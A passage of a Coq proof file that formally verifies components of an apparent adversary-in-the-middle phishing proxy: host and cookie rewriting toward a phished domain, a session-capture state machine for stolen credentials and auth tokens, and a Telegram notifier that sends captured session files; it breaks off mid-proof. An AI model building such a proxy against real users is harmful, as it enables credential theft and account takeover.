Lemma phished_nonempty (base : string) (hosts : list ProxyHost) (h p : string) :
  validHosts base hosts = true -> resolvePhishedHost hosts h = Some p -> p <> "".
Proof.
  unfold validHosts. rewrite andb_true_iff. intros [_ Hsub] Hres.
  apply resolvePhishedHost_In in Hres. apply in_map_iff in Hres.
  destruct Hres as (ph & <- & Hin).
  rewrite forallb_forall in Hsub. exact (isSubdomainOf_nonempty base _ (Hsub ph Hin)).
Qed.

Lemma isDelimiter_rules (d : Direction) (hosts : list ProxyHost) (c : ascii) :
  isDelimiter hosts c = true ->
  forall r, In r (rules d hosts) -> occurs c (fst r) = false.
Proof.
  unfold isDelimiter, rules. rewrite forallb_forall. intros Hdel r Hin.
  apply in_map_iff in Hin. destruct Hin as (ph & <- & Hin).
  specialize (Hdel ph Hin). apply andb_true_iff in Hdel.
  rewrite !negb_true_iff in Hdel. now destruct d.
Qed.

End RewriteEngine.

(** C4, as stated, fails: a response body can hold a real host name
    inside a longer name.  With phished hosts that are unique subdomains of
    the base domain, the body "https://mlogin.real.test/x" contains the real
    host name "login.real.test"; on the response path that name is replaced,
    on the request path the phished name of another host matches one byte
    earlier, and what comes back does not contain the original host name. *)
Lemma rewrite_round_trip_counterexample :
  Core.validHosts "evil.test" Core.crossingHosts = true /\
  Core.resolvePhishedHost Core.crossingHosts "login.real.test" = Some "x.evil.test" /\
  Core.contains "login.real.test" "https://mlogin.real.test/x" = true /\
  Core.rewriteHosts Core.ToPhished Core.crossingHosts "https://mlogin.real.test/x"
  = "https://mx.evil.test/x" /\
  Core.rewriteHosts Core.ToReal Core.crossingHosts
    (Core.rewriteHosts Core.ToPhished Core.crossingHosts "https://mlogin.real.test/x")
  = "https://m.real.test/x" /\
  Core.contains "login.real.test"
    (Core.rewriteHosts Core.ToReal Core.crossingHosts
       (Core.rewriteHosts Core.ToPhished Core.crossingHosts "https://mlogin.real.test/x"))
  = false.
Proof. repeat split. Qed.

(** C4, amended.  Round trip.  With proxy hosts that satisfy the invariant
    of the phishlet (phished hosts unique, each a subdomain of the base
    domain), a real host name [h] that is mapped to [p] is rewritten to [p]
    and given back exactly: the lookup of [p] is [h]; a body that is [h]
    becomes [p] and comes back as [h]; in a body where [h] stands as a whole
    name, behind a stretch in which no host name matches and followed by a
    delimiter, the response path puts [p] in its place, leaves the stretch
    and the delimiter and rewrites the rest on its own, and when no phished
    host name matches in the stretch either, the request path gives the
    stretch, [h] and the delimiter back exactly; and a cookie whose domain is
    [h] is sent with the domain [p] and comes back as it was. *)
Theorem rewrite_round_trip (base : string) (hosts : list Core.ProxyHost) (h p : string)
    (Hvalid : Core.validHosts base hosts = true)
    (Hmap : Core.resolvePhishedHost hosts h = Some p) :
  Core.resolveRealHost hosts p = Some h /\
  (h <> "" -> Core.rewriteHosts Core.ToPhished hosts h = p) /\
  Core.rewriteHosts Core.ToReal hosts (Core.rewriteHosts Core.ToPhished hosts h) = h /\
  (forall pre c rest,
     Core.isDelimiter hosts c = true ->
     Core.untouched (Core.rules Core.ToPhished hosts) pre (h ++ String c "") = true ->
     (h <> "" ->
      Core.rewriteHosts Core.ToPhished hosts (pre ++ h ++ String c rest) =
      pre ++ p ++ String c (Core.rewriteHosts Core.ToPhished hosts rest)) /\
     (Core.untouched (Core.rules Core.ToReal hosts) pre (p ++ String c "") = true ->
      Core.rewriteHosts Core.ToReal hosts
        (Core.rewriteHosts Core.ToPhished hosts (pre ++ h ++ String c rest)) =
      pre ++ h ++ String c
        (Core.rewriteHosts Core.ToReal hosts
           (Core.rewriteHosts Core.ToPhished hosts rest)))) /\
  (forall ck, Core.domain ck = h ->
     Core.domain (Core.rewriteCookie Core.ToPhished hosts ck) = p /\
     Core.rewriteCookie Core.ToReal hosts (Core.rewriteCookie Core.ToPhished hosts ck) = ck).
Proof.
  assert (Hback : Core.resolveRealHost hosts p = Some h).
  { apply resolve_back; [|exact Hmap].
    unfold Core.validHosts in Hvalid. now apply andb_true_iff in Hvalid. }
  pose proof (phished_nonempty base hosts h p Hvalid Hmap) as Hp.
  assert (Hfwd : Core.lookupRule (Core.rules Core.ToPhished hosts) h = Some p)
    by now rewrite lookupRule_rules.
  assert (Hbwd : Core.lookupRule (Core.rules Core.ToReal hosts) p = Some h)
    by now rewrite lookupRule_rules.
  split; [exact Hback|]. unfold Core.rewriteHosts. split; [|split; [|split]].
  - intros Hh. exact (substitute_host_alone _ h p Hfwd Hh).
  - destruct (String.eqb_spec h "") as [->|Hh]; [reflexivity|].
    rewrite (substitute_host_alone _ h p Hfwd Hh).
    exact (substitute_host_alone _ p h Hbwd Hp).
  - intros pre c rest Hdel Hpref.
    pose proof (isDelimiter_rules Core.ToPhished hosts c Hdel) as Hdf.
    pose proof (isDelimiter_rules Core.ToReal hosts c Hdel) as Hdb.
    rewrite (substitute_untouched _ pre (h ++ String c rest)
               (untouched_upto_delimiter _ pre h rest _ c Hdf Hpref)).
    split.
    + intros Hh. now rewrite (substitute_host _ h p rest c Hfwd Hh Hdf).
    + intros Hpreb. destruct (String.eqb_spec h "") as [->|Hh].
      * change ("" ++ String c rest) with (String c rest).
        rewrite (substitute_delimiter _ c rest Hdf).
        rewrite (substitute_untouched _ pre (String c _)
                   (untouched_upto_delimiter _ pre "" _ _ c Hdb Hpreb)).
        now rewrite (substitute_delimiter _ c _ Hdb).
      * rewrite (substitute_host _ h p rest c Hfwd Hh Hdf).
        rewrite (substitute_untouched _ pre (p ++ String c _)
                   (untouched_upto_delimiter _ pre p _ _ c Hdb Hpreb)).
        now rewrite (substitute_host _ p h _ c Hbwd Hp Hdb).
  - intros [n v d pa ho se ex] Hd. cbn in Hd. subst d.
    unfold Core.rewriteCookie. cbn. rewrite Hmap. cbn. now rewrite Hback.
Qed.

Lemma rewrite_round_trip_witness :
  Core.resolveRealHost Core.scenarioHosts "login.evil.test" = Some "login.real.test" /\
  ("login.real.test" <> "" ->
   Core.rewriteHosts Core.ToPhished Core.scenarioHosts "login.real.test"
   = "login.evil.test") /\
  Core.rewriteHosts Core.ToReal Core.scenarioHosts
    (Core.rewriteHosts Core.ToPhished Core.scenarioHosts "login.real.test") =
  "login.real.test" /\
  (forall pre c rest,
     Core.isDelimiter Core.scenarioHosts c = true ->
     Core.untouched (Core.rules Core.ToPhished Core.scenarioHosts) pre
       ("login.real.test" ++ String c "") = true ->
     ("login.real.test" <> "" ->
      Core.rewriteHosts Core.ToPhished Core.scenarioHosts
        (pre ++ "login.real.test" ++ String c rest) =
      pre ++ "login.evil.test" ++
        String c (Core.rewriteHosts Core.ToPhished Core.scenarioHosts rest)) /\
     (Core.untouched (Core.rules Core.ToReal Core.scenarioHosts) pre
        ("login.evil.test" ++ String c "") = true ->
      Core.rewriteHosts Core.ToReal Core.scenarioHosts
        (Core.rewriteHosts Core.ToPhished Core.scenarioHosts
           (pre ++ "login.real.test" ++ String c rest)) =
      pre ++ "login.real.test" ++ String c
        (Core.rewriteHosts Core.ToReal Core.scenarioHosts
           (Core.rewriteHosts Core.ToPhished Core.scenarioHosts rest)))) /\
  (forall ck, Core.domain ck = "login.real.test" ->
     Core.domain (Core.rewriteCookie Core.ToPhished Core.scenarioHosts ck)
     = "login.evil.test" /\
     Core.rewriteCookie Core.ToReal Core.scenarioHosts
       (Core.rewriteCookie Core.ToPhished Core.scenarioHosts ck) = ck).
Proof.
  apply (rewrite_round_trip "evil.test" Core.scenarioHosts "login.real.test" "login.evil.test");
    reflexivity.
Defined.




(** The two scenarios of the design document, evaluated. *)
Example scenario_set_cookie :
  Core.domain (Core.rewriteCookie Core.ToPhished Core.scenarioHosts Core.sessionCookie)
  = "login.evil.test".
Proof. reflexivity. Qed.

Example scenario_longest_match :
  Core.rewriteHosts Core.ToPhished Core.nestedHosts "https://a.b.com/path"
  = "https://x.evil.test/path".
Proof. reflexivity. Qed.

(** * Properties of the session-capture state machine *)

Section SessionCapture.

Import Core.

Variable matches : string -> string -> bool.
Variable p : Phishlet.

(** Splits on every test that the goal still branches on. *)
Local Ltac split_tests :=
  repeat match goal with |- context [if ?b then _ else _] => destruct b end.

Lemma sameCookie_eq (a b : Cookie) :
  sameCookie a b = true -> name a = name b /\ domain a = domain b.
Proof.
  unfold sameCookie. rewrite !andb_true_iff.
  intros [[Hn Hd] _]. apply String.eqb_eq in Hn, Hd. auto.
Qed.

(** A cookie that takes the place of another matches the tokens the other
    matched, so a captured token stays captured. *)
Lemma tokenCaptured_addCookie (tok : AuthToken) (ck : Cookie) (cs : list Cookie) :
  tokenCaptured matches tok cs = true -> tokenCaptured matches tok (addCookie ck cs) = true.
Proof.
  unfold tokenCaptured, addCookie. rewrite !existsb_exists.
  intros (c & Hin & Hc). destruct (sameCookie ck c) eqn:Hsame.
  - exists ck. split; [now left|].
    apply sameCookie_eq in Hsame. destruct Hsame as [-> ->]. exact Hc.
  - exists c. split; [|exact Hc]. right.
    apply list_elem_of_In, list_elem_of_filter. rewrite Hsame.
    split; [exact I | now apply list_elem_of_In].
Qed.

Lemma allRequiredCaptured_addCookie (ck : Cookie) (cs : list Cookie) :
  allRequiredCaptured matches p cs = true ->
  allRequiredCaptured matches p (addCookie ck cs) = true.
Proof.
  unfold allRequiredCaptured. rewrite !forallb_forall. intros Hall tok Hin.
  specialize (Hall tok Hin). apply orb_true_iff in Hall. apply orb_true_iff.
  destruct Hall as [Hopt|Hcap]; [now left | right].
  now apply tokenCaptured_addCookie.
Qed.

Lemma advance_rank (ev : Event) (s : Session) :
  (rank (state s) <= rank (state (advance matches p ev s)))%nat.
Proof.
  unfold advance. cbn [state].
  destruct ev; destruct (state s); cbn [rank]; split_tests; cbn [rank]; lia.
Qed.

Lemma advance_authenticated (ev : Event) (s : Session) :
  authenticated s = true -> authenticated (advance matches p ev s) = true.
Proof.
  intros Hauth. unfold advance. cbn [authenticated]. rewrite Hauth. now destruct ev.
Qed.

Lemma advance_required (ev : Event) (s : Session) :
  allRequiredCaptured matches p (cookies s) = true ->
  allRequiredCaptured matches p (cookies (advance matches p ev s)) = true.
Proof.
  unfold advance. cbn [cookies]. destruct ev; [auto|].
  apply allRequiredCaptured_addCookie.
Qed.

Lemma advance_consistent (ev : Event) (s : Session) :
  consistent s -> consistent (advance matches p ev s).
Proof.
  unfold consistent, advance. cbn [authenticated state]. intros [Hto Hfrom].
  destruct ev; destruct (authenticated s) eqn:Ha; destruct (state s) eqn:Hs;
    cbn [orb]; split_tests; split; intros H; try reflexivity; try discriminate H;
    try (specialize (Hto eq_refl); discriminate Hto);
    try (specialize (Hfrom eq_refl); discriminate Hfrom).
Qed.

Lemma capture_cons (ev : Event) (evs : list Event) (s : Session) :
  capture matches p (ev :: evs) s = capture matches p evs (advance matches p ev s).
Proof. reflexivity. Qed.

Lemma capture_consistent (evs : list Event) (s : Session) :
  consistent s -> consistent (capture matches p evs s).
Proof.
  revert s. induction evs as [|ev evs IH]; intros s Hs; [exact Hs|].
  rewrite capture_cons. apply IH. now apply advance_consistent.
Qed.

Lemma capture_monotone (evs : list Event) (s : Session) :
  (rank (state s) <= rank (state (capture matches p evs s)))%nat /\
  (authenticated s = true -> authenticated (capture matches p evs s) = true) /\
  (allRequiredCaptured matches p (cookies s) = true ->
   allRequiredCaptured matches p (cookies (capture matches p evs s)) = true).
Proof.
  revert s. induction evs as [|ev evs IH]; intros s; [auto|].
  rewrite capture_cons. destruct (IH (advance matches p ev s)) as (Hrank & Hauth & Hreq).
  split; [|split].
  - pose proof (advance_rank ev s). lia.
  - intros H. now apply Hauth, advance_authenticated.
  - intros H. now apply Hreq, advance_required.
Qed.

End SessionCapture.

(** C6. Monotonic authentication.  Take a session as any sequence of
    capture events has left it, and apply any further sequence.  The flag
    [authenticated] is true exactly in state [AUTHENTICATED]; if it is true
    before the further events it is true after them and the state is still
    [AUTHENTICATED]; in every case the state after is not earlier than the
    state before, and auth tokens that were satisfied stay satisfied. *)
Theorem authenticated_monotonic (matches : string -> string -> bool) (p : Core.Phishlet)
    (n : Z) (phishlet url ip agent : string) (before after : list Core.Event) :
  let s := Core.capture matches p before (Core.newSession n phishlet url ip agent) in
  let s' := Core.capture matches p after s in
  (Core.authenticated s = true <-> Core.state s = Core.AUTHENTICATED) /\
  (Core.authenticated s = true ->
     Core.authenticated s' = true /\ Core.state s' = Core.AUTHENTICATED) /\
  (Core.rank (Core.state s) <= Core.rank (Core.state s'))%nat /\
  (Core.allRequiredCaptured matches p (Core.cookies s) = true ->
     Core.allRequiredCaptured matches p (Core.cookies s') = true).
Proof.
  intros s s'.
  assert (Hs : Core.consistent s).
  { apply capture_consistent. split; discriminate. }
  assert (Hs' : Core.consistent s') by now apply capture_consistent.
  destruct (capture_monotone matches p after s) as (Hrank & Hauth & Hreq).
  split; [exact Hs|]. split; [|split; [exact Hrank | exact Hreq]].
  intros H. split; [now apply Hauth|]. apply Hs'. now apply Hauth.
Qed.

Example scenario_capture :
  map (fun k => Core.state
                  (Core.capture String.eqb Core.scenarioPhishlet
                     (firstn k Core.scenarioEvents)
                     (Core.newSession 1 "example" "/signin" "10.0.0.1" "Mozilla/5.0")))
      [0; 1; 2; 3; 4]
  = [Core.NEW; Core.CREDENTIALS_PARTIAL; Core.CREDENTIALS_COMPLETE;
     Core.AUTHENTICATED; Core.AUTHENTICATED].
Proof. reflexivity. Qed.

(** * Further properties of the notifier *)

(** ** escapeMarkdown *)

Section EscapeMore.

Lemma escapeEach_byte (b : ascii) (rest : string) :
  escapeEach (String b rest) =
  if isSpecial b then String "\"%char (String b (escapeEach rest))
  else String b (escapeEach rest).
Proof.
  cbn [escapeEach]. unfold escapeByte, isSpecial.
  now destruct (existsb (Ascii.eqb b) markdownSpecials).
Qed.

Lemma isSpecial_In (b : ascii) : isSpecial b = true <-> In b markdownSpecials.
Proof.
  unfold isSpecial. rewrite existsb_exists. split.
  - intros (c & Hc & Heq). apply Ascii.eqb_eq in Heq. now subst.
  - intros Hb. exists b. split; [exact Hb | apply Ascii.eqb_refl].
Qed.

Lemma backslash_plain : isSpecial "\"%char = false.
Proof. reflexivity. Qed.

(** The escaped text never begins with one of the special characters. *)
Lemma escapeEach_head (s rest : string) (c : ascii) :
  escapeEach s = String c rest -> isSpecial c = false.
Proof.
  destruct s as [|b s]; [discriminate|]. rewrite escapeEach_byte.
  destruct (isSpecial b) eqn:Hb; intros [= <- _]; [reflexivity | exact Hb].
Qed.

Lemma countSpecials_le (s : string) : (countSpecials s <= String.length s)%nat.
Proof.
  induction s as [|b rest IH]; cbn [countSpecials String.length]; [lia|].
  destruct (isSpecial b); lia.
Qed.

Lemma escapeEach_length (s : string) :
  String.length (escapeEach s) = (String.length s + countSpecials s)%nat.
Proof.
  induction s as [|b rest IH]; [reflexivity|].
  rewrite escapeEach_byte. cbn [countSpecials].
  destruct (isSpecial b); cbn [String.length]; rewrite IH; lia.
Qed.

End EscapeMore.

(** X1. The escaped text is longer than the text by the number of special
    characters in it: never shorter, and at most twice as long. *)
Theorem escapeMarkdown_length (text : string) :
  String.length (escapeMarkdown text) = (String.length text + countSpecials text)%nat /\
  (String.length text <= String.length (escapeMarkdown text) <= 2 * String.length text)%nat.
Proof.
  rewrite escapeMarkdown_escapeEach.
  pose proof (countSpecials_le text). pose proof (escapeEach_length text). lia.
Qed.

(** X2. Escaping goes through concatenation: the escaped text of two
    pieces is the escaped first piece followed by the escaped second. *)
Theorem escapeMarkdown_app (a b : string) :
  escapeMarkdown (a ++ b) = escapeMarkdown a ++ escapeMarkdown b.
Proof.
  rewrite !escapeMarkdown_escapeEach.
  induction a as [|x a IH]; [reflexivity|].
  change (String x a ++ b) with (String x (a ++ b)).
  rewrite !escapeEach_byte, IH. now destruct (isSpecial x).
Qed.

(** X3. A text is left as it is exactly when it has none of the special
    characters. *)
Theorem escapeMarkdown_fixed (text : string) :
  escapeMarkdown text = text <-> countSpecials text = 0%nat.
Proof.
  split.
  - intros Hfix. pose proof (escapeEach_length text) as Hlen.
    rewrite <- escapeMarkdown_escapeEach, Hfix in Hlen. lia.
  - rewrite escapeMarkdown_escapeEach.
    induction text as [|b rest IH]; [reflexivity|].
    cbn [countSpecials]. rewrite escapeEach_byte.
    destruct (isSpecial b); [discriminate|]. cbn. intros H. now rewrite IH.
Qed.

(** X4. In the escaped text every special character stands directly behind
    a backslash. *)
Theorem escapeMarkdown_guarded (text before after : string) (c : ascii)
    (Hsplit : escapeMarkdown text = before ++ String c after)
    (Hc : In c markdownSpecials) :
  exists before', before = before' ++ "\".
Proof.
  rewrite escapeMarkdown_escapeEach in Hsplit. apply isSpecial_In in Hc.
  revert before Hsplit. induction text as [|b rest IH]; intros before Hsplit.
  - destruct before; discriminate.
  - rewrite escapeEach_byte in Hsplit. destruct (isSpecial b) eqn:Hb.
    + destruct before as [|x [|y before]].
      * injection Hsplit as <- _. rewrite backslash_plain in Hc. discriminate.
      * exists "". injection Hsplit as -> _ _. reflexivity.
      * change (String x (String y before) ++ String c after)
          with (String x (String y (before ++ String c after))) in Hsplit.
        injection Hsplit as <- <- Hrest.
        destruct (IH before Hrest) as [before' ->].
        now exists (String "\"%char (String b before')).
    + destruct before as [|x before].
      * injection Hsplit as <- _. congruence.
      * change (String x before ++ String c after)
          with (String x (before ++ String c after)) in Hsplit.
        injection Hsplit as <- Hrest.
        destruct (IH before Hrest) as [before' ->].
        now exists (String b before').
Qed.

Lemma escapeMarkdown_guarded_witness : exists before', "a\" = before' ++ "\".
Proof.
  apply (escapeMarkdown_guarded "a_b" "a\" "b" "_"%char); [reflexivity|].
  cbn. tauto.
Defined.

(** X5. Escaping loses nothing: two texts with the same escaped text are
    the same text. *)
Theorem escapeMarkdown_injective (a b : string)
    (Heq : escapeMarkdown a = escapeMarkdown b) : a = b.
Proof.
  rewrite !escapeMarkdown_escapeEach in Heq.
  revert b Heq. induction a as [|x a IH]; intros [|y b] Heq; try reflexivity.
  - rewrite escapeEach_byte in Heq. now destruct (isSpecial y).
  - rewrite escapeEach_byte in Heq. now destruct (isSpecial x).
  - rewrite !escapeEach_byte in Heq.
    destruct (isSpecial x) eqn:Hx, (isSpecial y) eqn:Hy.
    + injection Heq as -> Hrest. f_equal. now apply IH.
    + injection Heq as <- Hrest. symmetry in Hrest.
      apply escapeEach_head in Hrest. congruence.
    + injection Heq as -> Hrest.
      apply escapeEach_head in Hrest. congruence.
    + injection Heq as -> Hrest. f_equal. now apply IH.
Qed.

Lemma escapeMarkdown_injective_witness : "a_b.c" = "a_b.c".
Proof.
  apply (escapeMarkdown_injective "a_b.c" "a_b.c"). reflexivity.
Defined.

(** ** The guards *)

Section Guards.

Variable E : Env.

Lemma notConfigured_true (t : TelegramBot) :
  IsEnabled t = false -> notConfigured t = true.
Proof. intros H. now rewrite notConfigured_IsEnabled, H. Qed.

Lemma notConfigured_false (t : TelegramBot) :
  IsEnabled t = true -> notConfigured t = false.
Proof. intros H. now rewrite notConfigured_IsEnabled, H. Qed.

Lemma IsEnabled_fields (t : TelegramBot) :
  IsEnabled t = true <-> enabled t = true /\ botToken t <> "" /\ chatID t <> "".
Proof.
  unfold IsEnabled. rewrite !andb_true_iff, !negb_true_iff.
  destruct (String.eqb_spec (botToken t) ""), (String.eqb_spec (chatID t) "");
    intuition congruence.
Qed.

(** What [sendMessage] leaves alone, and what it adds. *)
Lemma sendMessage_frame (t : TelegramBot) (msg : TelegramMessage) (w : World) :
  files (snd (sendMessage E t msg w)) = files w /\
  warnings (snd (sendMessage E t msg w)) = warnings w /\
  (posted (snd (sendMessage E t msg w)) = posted w \/
   posted (snd (sendMessage E t msg w)) =
   (posted w ++ [mkRequest (sendMessageURL t) "application/json" (JSON msg)])%list).
Proof.
  unfold sendMessage, sendMessageURL. destruct (notConfigured t); [cbn; auto|].
  destruct (json_Marshal E msg); [cbn; auto|].
  destruct (http_NewRequest E _); [cbn; auto|].
  unfold doRequest. cbn [posted logCall].
  destruct (client_Do E _ _) as [err|code]; [cbn; auto|].
  destruct (code =? StatusOK)%Z; cbn; auto.
Qed.

Lemma sendMessage_nil (t : TelegramBot) (msg : TelegramMessage) (w : World) :
  fst (sendMessage E t msg w) = None <->
  IsEnabled t = true /\ json_Marshal E msg = None /\
  http_NewRequest E (sendMessageURL t) = None /\
  client_Do E (length (posted w))
    (mkRequest (sendMessageURL t) "application/json" (JSON msg)) = inr 200%Z.
Proof.
  unfold sendMessage. fold (sendMessageURL t). rewrite notConfigured_IsEnabled.
  destruct (IsEnabled t); cbn [negb]; [|cbn; intuition discriminate].
  destruct (json_Marshal E msg); [cbn; intuition discriminate|].
  destruct (http_NewRequest E (sendMessageURL t)); [cbn; intuition discriminate|].
  unfold doRequest. cbn [posted logCall].
  destruct (client_Do E (length (posted w)) _) as [err|code];
    [cbn; intuition discriminate|].
  unfold StatusOK. destruct (Z.eqb_spec code 200) as [->|Hne]; cbn.
  - intuition.
  - split; [discriminate|]. intros (_ & _ & _ & [= Hc]). contradiction.
Qed.

End Guards.

(** X6. A bot for which [IsEnabled] is false does nothing: an emission
    leaves the state as it is (no message queued, no warning), [Start]
    starts no worker, [SendSessionFile] starts no upload, and [sendMessage]
    and [SendDocument] return "telegram bot not configured" without a
    request and without touching a file. *)
Theorem not_enabled_inert (E : Env) (s : State) (Hoff : IsEnabled (bot s) = false) :
  (forall a, isEmission a -> exec E a s = Some s) /\
  Start (bot s) = bot s /\
  (forall sessionID filePath username password ip domain,
     SendSessionFile sessionID filePath username password ip domain (bot s) = None) /\
  (forall msg w,
     fst (sendMessage E (bot s) msg w) = Some "telegram bot not configured" /\
     posted (snd (sendMessage E (bot s) msg w)) = posted w /\
     files (snd (sendMessage E (bot s) msg w)) = files w) /\
  (forall filePath caption w,
     SendDocument E (bot s) filePath caption w = (Some "telegram bot not configured", w)).
Proof.
  pose proof (notConfigured_true (bot s) Hoff) as Hnot.
  split; [intros a Ha; now apply exec_emission_off|].
  split; [unfold Start; now rewrite Hnot|].
  split; [intros; unfold SendSessionFile; now rewrite Hnot|].
  split.
  - intros msg w. unfold sendMessage. rewrite Hnot. cbn. auto.
  - intros filePath caption w. unfold SendDocument. now rewrite Hnot.
Qed.

Lemma not_enabled_inert_witness :
  (forall a, isEmission a -> exec quietEnv a disabledState = Some disabledState) /\
  Start (bot disabledState) = bot disabledState /\
  (forall sessionID filePath username password ip domain,
     SendSessionFile sessionID filePath username password ip domain (bot disabledState)
     = None) /\
  (forall msg w,
     fst (sendMessage quietEnv (bot disabledState) msg w)
       = Some "telegram bot not configured" /\
     posted (snd (sendMessage quietEnv (bot disabledState) msg w)) = posted w /\
     files (snd (sendMessage quietEnv (bot disabledState) msg w)) = files w) /\
  (forall filePath caption w,
     SendDocument quietEnv (bot disabledState) filePath caption w
     = (Some "telegram bot not configured", w)).
Proof.
  apply (not_enabled_inert quietEnv disabledState). reflexivity.
Defined.

(** X7. [sendMessage] returns [nil] exactly when the bot is enabled with
    token and chat id, the message can be encoded, the request can be built
    and the server answers 200; any other status code comes back in the
    error text.  It makes at most one request, a JSON post of the message
    as given to the address built from the token, and touches neither files
    nor the log. *)
Theorem sendMessage_result (E : Env) (t : TelegramBot) (msg : TelegramMessage) (w : World) :
  let req := mkRequest (sendMessageURL t) "application/json" (JSON msg) in
  (fst (sendMessage E t msg w) = None <->
     IsEnabled t = true /\ json_Marshal E msg = None /\
     http_NewRequest E (sendMessageURL t) = None /\
     client_Do E (length (posted w)) req = inr 200%Z) /\
  (forall code,
     IsEnabled t = true -> json_Marshal E msg = None ->
     http_NewRequest E (sendMessageURL t) = None ->
     client_Do E (length (posted w)) req = inr code -> code <> 200%Z ->
     fst (sendMessage E t msg w)
       = Some ("telegram API returned status code: " ++ itoa code) /\
     posted (snd (sendMessage E t msg w)) = (posted w ++ [req])%list) /\
  (posted (snd (sendMessage E t msg w)) = posted w \/
   posted (snd (sendMessage E t msg w)) = (posted w ++ [req])%list) /\
  files (snd (sendMessage E t msg w)) = files w /\
  warnings (snd (sendMessage E t msg w)) = warnings w.
Proof.
  intros req. destruct (sendMessage_frame E t msg w) as (Hfiles & Hwarn & Hposted).
  split; [|split; [|auto]].
  - apply sendMessage_nil.
  - intros code Hon Hm Hr Hdo Hne.
    unfold sendMessage. fold (sendMessageURL t).
    rewrite notConfigured_IsEnabled, Hon, Hm, Hr. cbn [negb].
    unfold doRequest. cbn [posted logCall]. fold req. rewrite Hdo.
    unfold StatusOK. destruct (Z.eqb_spec code 200) as [->|_]; [contradiction|].
    cbn. auto.
Qed.

(** X8. [SendTestMessage] goes past the queue: in every case the bot, its
    queue included, is as before, and the result is [nil] exactly when token
    and chat id are set, the bot is enabled, and the test message is encoded,
    posted and answered with 200. *)
Theorem SendTestMessage_direct (E : Env) (s : State) :
  let msg := mkMessage (chatID (bot s)) testText "Markdown" in
  bot (snd (SendTestMessage E s)) = bot s /\
  files (world (snd (SendTestMessage E s))) = files (world s) /\
  warnings (world (snd (SendTestMessage E s))) = warnings (world s) /\
  (fst (SendTestMessage E s) = None <->
     IsEnabled (bot s) = true /\ json_Marshal E msg = None /\
     http_NewRequest E (sendMessageURL (bot s)) = None /\
     client_Do E (length (posted (world s)))
       (mkRequest (sendMessageURL (bot s)) "application/json" (JSON msg)) = inr 200%Z).
Proof.
  intros msg. unfold SendTestMessage.
  destruct (String.eqb_spec (botToken (bot s)) "") as [Htok|Htok].
  { cbn. repeat split; try discriminate.
    intros (Hon & _). apply IsEnabled_fields in Hon. tauto. }
  destruct (String.eqb_spec (chatID (bot s)) "") as [Hchat|Hchat].
  { cbn. repeat split; try discriminate.
    intros (Hon & _). apply IsEnabled_fields in Hon. tauto. }
  cbn [orb]. fold msg.
  destruct (sendMessage_frame E (bot s) msg (world s)) as (Hfiles & Hwarn & _).
  pose proof (sendMessage_nil E (bot s) msg (world s)) as Hnil.
  destruct (sendMessage E (bot s) msg (world s)) as [err w']. cbn in *. auto.
Qed.

(** ** SendDocument and SendSessionFile *)

Section Documents.

Variable E : Env.

Lemma writeFields_ok (t : TelegramBot) (caption : string) (fields : list FormPart) :
  writeFields E t caption = inr fields -> fields = expectedFields t caption.
Proof.
  unfold writeFields, expectedFields.
  destruct (WriteField E "chat_id" (chatID t)); [discriminate|].
  destruct (String.eqb caption ""); [now intros [= <-]|].
  destruct (WriteField E "caption" caption); [discriminate|].
  destruct (WriteField E "parse_mode" "Markdown"); [discriminate|].
  now intros [= <-].
Qed.

Lemma os_Remove_frame (filePath : string) (w : World) :
  posted (snd (os_Remove E filePath w)) = posted w /\
  sendCalls (snd (os_Remove E filePath w)) = sendCalls w /\
  warnings (snd (os_Remove E filePath w)) = warnings w /\
  files (snd (os_Remove E filePath w)) =
  match os_Remove_err E filePath with
  | Some _ => files w
  | None => delete filePath (files w)
  end.
Proof. unfold os_Remove. now destruct (os_Remove_err E filePath). Qed.

(** Every return of [SendDocument]: the log and the record of
    [sendMessage] calls are as before, and either no request was made and
    the files are as before, or the one request described was made; after a
    return of [nil] the files are as [os.Remove] left them. *)
Lemma SendDocument_cases (t : TelegramBot) (filePath caption : string) (w : World) :
  sendCalls (snd (SendDocument E t filePath caption w)) = sendCalls w /\
  warnings (snd (SendDocument E t filePath caption w)) = warnings w /\
  ((posted (snd (SendDocument E t filePath caption w)) = posted w /\
    files (snd (SendDocument E t filePath caption w)) = files w /\
    fst (SendDocument E t filePath caption w) <> None) \/
   (exists content,
      notConfigured t = false /\
      files w !! filePath = Some content /\
      posted (snd (SendDocument E t filePath caption w)) =
      (posted w ++
       [mkRequest (sendDocumentURL t) (FormDataContentType E)
          (Multipart (FormFile "document" (filepath_Base E filePath) content
                        :: expectedFields t caption))])%list /\
      (fst (SendDocument E t filePath caption w) = None ->
       files (snd (SendDocument E t filePath caption w)) =
       match os_Remove_err E filePath with
       | Some _ => files w
       | None => delete filePath (files w)
       end))).
Proof.
  unfold SendDocument. fold (sendDocumentURL t).
  destruct (notConfigured t) eqn:Hcfg; [cbn; intuition discriminate|].
  destruct (files w !! filePath) as [content|] eqn:Hfile; [|cbn; intuition discriminate].
  destruct (CreateFormFile E _ _); [cbn; intuition discriminate|].
  destruct (io_Copy E content); [cbn; intuition discriminate|].
  destruct (writeFields E t caption) as [err|fields] eqn:Hfields;
    [cbn; intuition discriminate|].
  apply writeFields_ok in Hfields. subst fields.
  destruct (writer_Close E); [cbn; intuition discriminate|].
  destruct (http_NewRequest E _); [cbn; intuition discriminate|].
  unfold doRequest.
  destruct (client_Do E _ _) as [err|code].
  - cbn. split; [reflexivity|]. split; [reflexivity|]. right. exists content.
    repeat split; auto. discriminate.
  - destruct (code =? StatusOK)%Z; cbn [fst snd].
    + match goal with |- context [os_Remove E filePath ?w1] =>
        destruct (os_Remove_frame filePath w1) as (Hp & Hc & Hw & Hf)
      end.
      rewrite Hp, Hc, Hw, Hf. cbn. split; [reflexivity|]. split; [reflexivity|].
      right. exists content. repeat split; auto.
    + cbn. split; [reflexivity|]. split; [reflexivity|].
      right. exists content. repeat split; auto. discriminate.
Qed.

(** When every call before [client.Do] succeeds, the request is made,
    whatever the server answers. *)
Lemma SendDocument_posts (t : TelegramBot) (filePath caption content : string)
    (fields : list FormPart) (w : World) :
  IsEnabled t = true -> files w !! filePath = Some content ->
  CreateFormFile E "document" (filepath_Base E filePath) = None ->
  io_Copy E content = None ->
  writeFields E t caption = inr fields ->
  writer_Close E = None ->
  http_NewRequest E (sendDocumentURL t) = None ->
  posted (snd (SendDocument E t filePath caption w)) =
  (posted w ++ [documentRequest E t filePath content fields])%list.
Proof.
  intros Hon Hfile Hform Hcopy Hfields Hclose Hbuild.
  unfold SendDocument. fold (sendDocumentURL t).
  rewrite (notConfigured_false t Hon), Hfile, Hform, Hcopy, Hfields, Hclose, Hbuild.
  fold (documentRequest E t filePath content fields). unfold doRequest.
